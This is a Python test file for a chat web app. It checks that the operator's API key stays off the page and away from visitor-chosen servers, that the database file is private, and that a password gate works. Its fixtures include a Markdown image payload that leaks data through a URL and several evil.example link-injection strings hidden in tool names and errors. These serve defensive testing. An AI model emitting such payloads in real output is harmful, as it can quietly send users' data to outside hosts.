"""Attacks on the web chat as a second visitor would make them (issue 9): the operator's key,
where it is sent, Markdown from models and tools, the database's mode, the sidebar's paging,
the password gate."""

from __future__ import annotations

import json
import os
import stat
import time
from pathlib import Path

import pytest

from liteagent.web.markup import STYLE, allowed_html
from liteagent.web.store import ConversationStore
from scripted_server import ScriptedServer

from .hostile import HOSTILE_TEXT, TRICKS
from .page import link_makers, shown

KEY = "sk-operator-5ecret-d0-not-leak"
HOSTILE = str(Path(__file__).resolve().parent / "hostile.py") + ":Hostile"


def walk(node):
    yield node
    children = getattr(node, "children", None)
    if isinstance(children, dict):
        for c in children.values():
            yield from walk(c)


def page_text(at) -> str:
    """Everything the browser receives for the page's elements."""
    return "\n".join(str(getattr(n, "proto", "")) for n in walk(at._tree))


def ask(at, text):
    at.chat_input[0].set_value(text).run()
    assert not at.exception, at.exception


def test_the_operators_key_never_reaches_the_page(web_env, app_test, server):
    web_env(api_key=KEY)
    server.replies = ["Hello."]
    at = app_test()
    at.run()
    ask(at, "hi")
    assert KEY not in page_text(at)
    assert at.sidebar.text_input(key="api_key").value == ""
    # the key was used, on the server side, for the operator's server
    assert server.requests[-1]["headers"].get("Authorization") == f"Bearer {KEY}"


def test_a_visitor_cannot_send_the_key_elsewhere(web_env, app_test, server):
    web_env(api_key=KEY)
    other = ScriptedServer(replies=["from the other server"]).start()
    try:
        at = app_test()
        at.run()
        assert at.sidebar.text_input(key="base_url").disabled  # fixed by the operator
        at.session_state["base_url"] = other.url  # a crafted request ignores "disabled"
        at.run()
        server.replies = ["from the operator's server"]
        ask(at, "hi")
        assert other.requests == []  # nothing went to the visitor's server
        # the operator allows other servers: the key still never follows
        web_env(api_key=KEY, allow_url_change=True)
        at = app_test("visitor-2")
        at.run()
        at.sidebar.text_input(key="base_url").set_value(other.url).run()
        ask(at, "hi")
        assert other.requests, "the visitor's own server was used"
        assert all(KEY not in str(r["headers"]) for r in other.requests)
        # a key the visitor typed goes to the visitor's server
        at.sidebar.text_input(key="api_key").set_value("sk-visitor").run()
        other.replies = ["again"]
        ask(at, "again")
        assert other.requests[-1]["headers"].get("Authorization") == "Bearer sk-visitor"
    finally:
        other.stop()


def markdown_slots(at) -> list[str]:
    """Every string Streamlit renders as Markdown itself (so GFM could link in it), but buttons."""
    return (
        [e.label for e in at.expander]
        + [e.value for e in at.error]
        + [m.value for m in at.markdown]
        + [c.value for c in at.caption]
        + [w.value for w in at.warning]
        + [i.value for i in at.info]
    )


def assert_no_link_can_be_made(at) -> None:
    for r in markdown_slots(at):
        assert not link_makers(r), r
    for b in [*at.sidebar.button, *at.button]:
        assert not link_makers(b.label, button=True), b.label
    for h in at.html:  # our style, or what our renderer wrote and its allowlist passed
        assert h.value == STYLE or allowed_html(h.value), h.value
        assert "<a" not in h.value and "<img" not in h.value, h.value


def test_markdown_from_models_and_tools_loads_no_image_anywhere(web_env, app_test, server):
    evil = "![x](http://127.0.0.1:9/leak?d=secret)"
    server.replies = [
        f'<tool_call>{{"name": "{evil}", "arguments": {{}}}}</tool_call>',
        '<tool_call>{"name": "EnvChecker.check_torch_env", "arguments": {"nope": "' + evil + '"}}</tool_call>',
        "Done " + evil,
    ]
    at = app_test()
    at.run()
    ask(at, evil)
    assert any("leak" in r for r in markdown_slots(at) + shown(at)), markdown_slots(at)  # the text is shown ...
    assert_no_link_can_be_made(at)  # ... never as an image, nor a link


def test_no_link_from_any_model_or_tool_text(web_env, app_test, server):
    """Issue 23, 6: every link trick in the answer, a tool's name, its arguments, its text, JSON
    and error results, and a server error: no Markdown slot can link, no HTML holds a link, and
    the same once the conversation is drawn from the history."""
    web_env(plugins=["EnvChecker", HOSTILE], extra_specs=[HOSTILE])
    calls = [
        {"name": "https://evil.example/tool [t](https://evil.example/tn) bob@evil.example", "arguments": {}},
        {"name": "Hostile.echo", "arguments": {"text": "[a](https://evil.example/arg)"}},
        {"name": "Hostile.data", "arguments": {"text": "www.evil.example"}},
        {"name": "Hostile.fail", "arguments": {"text": "<https://evil.example/fail>"}},
    ]
    server.replies = [
        "".join(f"<tool_call>{json.dumps(c)}</tool_call>" for c in calls),
        HOSTILE_TEXT,
        {"status": 400, "error": HOSTILE_TEXT},  # 400: not retried
    ]
    at = app_test("ivan")
    at.run()
    ask(at, "[q](https://evil.example/q) " + HOSTILE_TEXT)
    ask(at, "again")
    assert any("evil.example/tool" in e.label for e in at.expander)
    assert any("Hostile.fail" in e.label and "api\\_error" in e.label for e in at.expander)
    assert any("evil.example/inline" in text for text in shown(at))
    assert any("answered 400" in e.value and "evil.example" in e.value for e in at.error)
    assert_no_link_can_be_made(at)
    again = app_test("ivan")  # the history, drawn by a new session
    again.run()
    [b for b in again.sidebar.button if "evil" in b.label][0].click().run()
    assert any("evil.example/inline" in text for text in shown(again))
    assert_no_link_can_be_made(again)


def test_link_makers_sees_what_streamlit_would_link():
    """The check above, checked: it finds each trick in Markdown as it was shown before."""
    for trick in [t for t in TRICKS[:13] if "javascript" not in t]:  # markdown-it drops javascript: links
        assert link_makers(trick), trick


def test_database_is_private_and_sidebar_pages(web_env, app_test, tmp_path):
    defaults = web_env()
    store = ConversationStore(defaults["db"])
    for i in range(2000):
        store.create("many", f"conversation {i}")
    mode = stat.S_IMODE(os.stat(defaults["db"]).st_mode)
    assert mode == 0o600, oct(mode)
    at = app_test("many")
    t0 = time.perf_counter()
    at.run()
    convs = [b for b in at.sidebar.button if b.key and b.key.startswith("conv-")]
    assert len(convs) == 20
    more = [b for b in at.sidebar.button if b.key == "more_convs"]
    assert more and "1980" in more[0].label
    more[0].click().run()
    assert len([b for b in at.sidebar.button if b.key and b.key.startswith("conv-")]) == 40
    assert time.perf_counter() - t0 < 60  # not an assertion on speed: the run must simply finish


def test_password_gate(web_env, app_test, monkeypatch, server):
    monkeypatch.setenv("LITEAGENT_WEB_PASSWORD", "open sesame")
    at = app_test()
    at.run()
    assert not at.chat_input and not at.sidebar.text_input
    at.text_input(key="password_input").set_value("guess")
    at.button[0].click().run()
    assert at.error and not at.chat_input
    at.text_input(key="password_input").set_value("open sesame")
    at.button[0].click().run()
    assert at.chat_input


@pytest.mark.parametrize("field", ["api_key"])
def test_export_never_holds_the_key(web_env, app_test, server, field):
    web_env(api_key=KEY)
    server.replies = ["ok"]
    at = app_test()
    at.run()
    ask(at, "hi")
    at.run()
    exported = " ".join(str(b.proto) for b in walk(at._tree) if "download" in type(b).__name__.lower())
    assert KEY not in exported and KEY not in page_text(at)
